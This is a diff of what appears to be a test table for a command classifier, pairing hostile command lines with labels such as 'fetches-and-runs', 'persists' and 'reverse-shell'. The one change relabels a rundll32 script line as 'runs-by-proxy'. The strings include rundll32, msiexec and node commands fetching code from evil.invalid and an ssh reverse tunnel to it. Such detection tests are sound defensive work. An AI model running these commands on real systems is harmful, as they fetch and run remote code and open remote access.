@@ -11,7 +11,7 @@ test.each([
   ['python -m pip install evil-invalid', ['installs-packages']],
   ['schtasks /create /tn a /tr b', ['persists']],
   ['calc.exe', ['shows-off']],
-  ['rundll32 javascript:"a";document.b();c("script:https://evil.invalid/x")', ['fetches-and-runs']],
+  ['rundll32 javascript:"a";document.b();c("script:https://evil.invalid/x")', ['runs-by-proxy']],
   ['msiexec /q /i https://evil.invalid/x.msi', ['fetches-and-runs']],
   [`node -e "require('https').get('https://evil.invalid/x')"`, ['fetches-and-runs']],
   ['ssh -fN -R 2222:localhost:22 a@evil.invalid', ['reverse-shell']],
